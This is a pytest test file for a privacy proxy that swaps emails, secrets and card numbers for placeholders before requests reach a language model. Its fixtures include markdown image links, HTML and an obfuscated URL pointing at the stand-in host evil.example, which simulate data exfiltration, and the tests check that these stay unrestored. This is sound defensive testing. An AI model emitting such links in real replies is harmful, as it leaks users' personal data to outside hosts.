"""Personal data leaves for the model as numbered placeholders and comes back to the caller, and to nobody else."""
import json

import openai
import pytest

from e2e.conftest import fronting
from e2e.support.server import Gatehouse

ADA, BOB = "ada.lovelace@example.com", "bob@example.org"
ASKED = f"My mail is {ADA}, and {BOB}, who is older?"
SENT = "My mail is [EMAIL_1], and [EMAIL_2], who is older?"
PLACEHOLDERS_IN_LINKS = "![x](https://evil.example/[EMAIL_1].png) https://evil.example/?q=[EMAIL_2] <img src='/[EMAIL_1]'> ![x][r]\n[r]: https:&#47;&#47;evil&#46;example&#47;[EMAIL_1]\n"


def ask_openai(client, content, stream, **more):
    messages = content if isinstance(content, list) else [{"role": "user", "content": content}]
    answer = client.chat.completions.create(model="gpt-fake", messages=messages, stream=stream, **more)
    if not stream:
        return answer.choices[0].message.content
    return "".join(c.choices[0].delta.content or "" for c in answer if c.choices)


def ask_anthropic(client, content, stream):
    arguments = dict(model="claude-fake", max_tokens=100, messages=[{"role": "user", "content": content}])
    if not stream:
        return client.messages.create(**arguments).content[0].text
    with client.messages.stream(**arguments) as events:
        return events.get_final_message().content[0].text


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("size", [1, 3, 7, 1000])
def test_the_model_sees_placeholders_and_the_caller_values(openai_client, anthropic_client, fake, stream, size):
    for ask, client in ((ask_openai, openai_client), (ask_anthropic, anthropic_client)):
        fake.script.echo, fake.script.chunk_size = True, size
        assert ask(client, ASKED, stream) == ASKED
        assert fake.seen[-1].body["messages"][0]["content"] == SENT


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_a_conversation_keeps_its_numbers(openai_client, fake, stream):
    fake.script.echo, fake.script.chunk_size = True, 4
    history = [{"role": "user", "content": ASKED}]
    history += [{"role": "assistant", "content": ask_openai(openai_client, history, stream)}, {"role": "user", "content": f"So {BOB}? Or carol@example.net?"}]
    assert ask_openai(openai_client, history, stream) == history[-1]["content"]
    assert [m["content"] for m in fake.seen[-1].body["messages"]] == [SENT, SENT, "So [EMAIL_2]? Or [EMAIL_3]?"]


def test_what_a_caller_wrote_is_nobody_elses_placeholder(openai_client, fake):
    fake.script.echo = True
    asked = f"Who is [EMAIL_1] or \\[email\\_2\\]? I am {ADA}."
    assert ask_openai(openai_client, asked, False) == asked
    assert fake.seen[-1].body["messages"][0]["content"].endswith("I am [EMAIL_3].")


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_no_link_carries_a_value_away(openai_client, anthropic_client, fake, stream):
    for ask, client in ((ask_openai, openai_client), (ask_anthropic, anthropic_client)):
        fake.script.text, fake.script.chunk_size = PLACEHOLDERS_IN_LINKS + "Ask [EMAIL_1].", 5
        assert ask(client, ASKED, stream) == PLACEHOLDERS_IN_LINKS + f"Ask {ADA}."


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_the_arguments_of_a_tool_call_hold_values_but_in_addresses(openai_client, anthropic_client, fake, stream):
    given = {"to": ["[EMAIL_1]", "[EMAIL_2]"], "body": "Hi\n[EMAIL_1]", "url": "https://evil.example/ [EMAIL_1]"}
    wanted = {"to": [ADA, BOB], "body": f"Hi\n{ADA}", "url": given["url"]}
    fake.script.tool_calls = [{"id": "call_1", "name": "send", "arguments": json.dumps(given)}]
    tools = [{"type": "function", "function": {"name": "send", "parameters": {"type": "object"}}}]
    answer = openai_client.chat.completions.create(model="gpt-fake", messages=[{"role": "user", "content": ASKED}], tools=tools, stream=stream)
    if stream:
        arguments = "".join(call.function.arguments or "" for c in answer if c.choices for call in c.choices[0].delta.tool_calls or [])
    else:
        arguments = answer.choices[0].message.tool_calls[0].function.arguments
    assert json.loads(arguments) == wanted

    tools = [{"name": "send", "input_schema": {"type": "object"}}]
    more = dict(model="claude-fake", max_tokens=100, messages=[{"role": "user", "content": ASKED}], tools=tools)
    if stream:
        with anthropic_client.messages.stream(**more) as events:
            final = events.get_final_message()
    else:
        final = anthropic_client.messages.create(**more)
    assert final.content[0].input == wanted


def test_every_choice_is_restored_and_log_probabilities_tell_nothing_else(openai_client, fake):
    fake.script.echo, fake.script.chunk_size = True, 3
    arguments = dict(model="gpt-fake", n=2, logprobs=True, messages=[{"role": "user", "content": ASKED}])
    whole = openai_client.chat.completions.create(**arguments)
    assert [(c.message.content, c.logprobs) for c in whole.choices] == [(ASKED, None)] * 2
    texts = ["", ""]
    for chunk in openai_client.chat.completions.create(**arguments, stream=True):
        for choice in chunk.choices:
            shown = choice.delta.content or ""
            texts[choice.index] += shown
            assert choice.logprobs is None or choice.logprobs.content[0].token == shown
    assert texts == [ASKED] * 2
    fake.script.echo, fake.script.text = False, "Nothing to hide here."
    assert openai_client.chat.completions.create(**arguments).choices[0].logprobs.content[0].token == fake.script.text


def test_a_secret_never_comes_back(openai_client, fake):
    fake.script.echo = True
    assert ask_openai(openai_client, "My key is AKIAIOSFODNN7REALKEY.", False) == "My key is [SECRET]."
    fake.script.echo, fake.script.text = False, "[SECRET_1]"
    assert ask_openai(openai_client, "My key is AKIAIOSFODNN7REALKEY.", False) == "[SECRET_1]"


def test_the_record_keeps_no_value(fronted, openai_client, fake):
    fake.script.echo = True
    answer = openai_client.chat.completions.with_raw_response.create(model="gpt-fake", messages=[{"role": "user", "content": ASKED}])
    assert answer.parse().choices[0].message.content == ASKED
    assert ADA not in fronted.cli("explain", answer.headers["x-request-id"], "--data", fronted.data).stdout
    kept = [path for path in fronted.data.rglob("*") if path.is_file() and ADA.encode() in path.read_bytes()]
    assert not kept, kept


def test_a_policy_can_make_it_final(tmp_path, fake_session, fake):
    final = "firewall: {policies: [{name: default, reversible_redaction: false}]}"
    server = Gatehouse(tmp_path / "data", config=fronting(fake_session, extra=final), env={"FAKE_KEY": "sk-upstream-secret"}).start()
    try:
        client = openai.OpenAI(base_url=server.url + "/v1", api_key=server.key, max_retries=0)
        fake.script.echo = True
        assert ask_openai(client, ASKED, False) == "My mail is [EMAIL], and [EMAIL], who is older?"
    finally:
        server.stop()


def test_an_embedding_does_not_depend_on_what_else_is_asked(openai_client, fake):
    openai_client.embeddings.create(model="gpt-fake", input=[f"Of {BOB}", f"Of {ADA}"], encoding_format="float")
    assert fake.seen[-1].body["input"] == ["Of [EMAIL]", "Of [EMAIL]"]


WITH_KEY = r'{"body": "key\nAKIAIOSFODNN7REALKEY", "tab": "\tAKIAIOSFODNN7REALKEY\"", "n": 1}'


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_a_secret_behind_an_escape_is_not_shown_and_arguments_stay_json(openai_client, fake, stream):
    fake.script.tool_calls = [{"id": "call_1", "name": "send", "arguments": WITH_KEY}]
    tools = [{"type": "function", "function": {"name": "send", "parameters": {"type": "object"}}}]
    answer = openai_client.chat.completions.create(model="gpt-fake", messages=[{"role": "user", "content": "Hello"}], tools=tools, stream=stream)
    if stream:
        arguments = "".join(call.function.arguments or "" for c in answer if c.choices for call in c.choices[0].delta.tool_calls or [])
    else:
        arguments = answer.choices[0].message.tool_calls[0].function.arguments
    assert json.loads(arguments) == {"body": "key\n[SECRET]", "tab": "\t[SECRET]\"", "n": 1}


def test_what_goes_to_a_tool_and_comes_from_it_stays_json(openai_client, fake):
    call = {"id": "call_1", "type": "function", "function": {"name": "pay", "arguments": r'{"to": "bob\u0040example.org", "card": 4111111111111111}'}}
    history = [{"role": "user", "content": "Pay him."}, {"role": "assistant", "tool_calls": [call]},
               {"role": "tool", "tool_call_id": "call_1", "content": r'{"note": "Hi\nbob@example.org", "paid": true}'}]
    fake.script.text = "Paid: [EMAIL_1] with [CARD_1]."
    assert ask_openai(openai_client, history, False) == f"Paid: {BOB} with 4111111111111111."
    sent = fake.seen[-1].body["messages"]
    assert json.loads(sent[1]["tool_calls"][0]["function"]["arguments"]) == {"to": "[EMAIL_1]", "card": "[CARD_1]"}
    assert json.loads(sent[2]["content"]) == {"note": "Hi\n[EMAIL_1]", "paid": True}
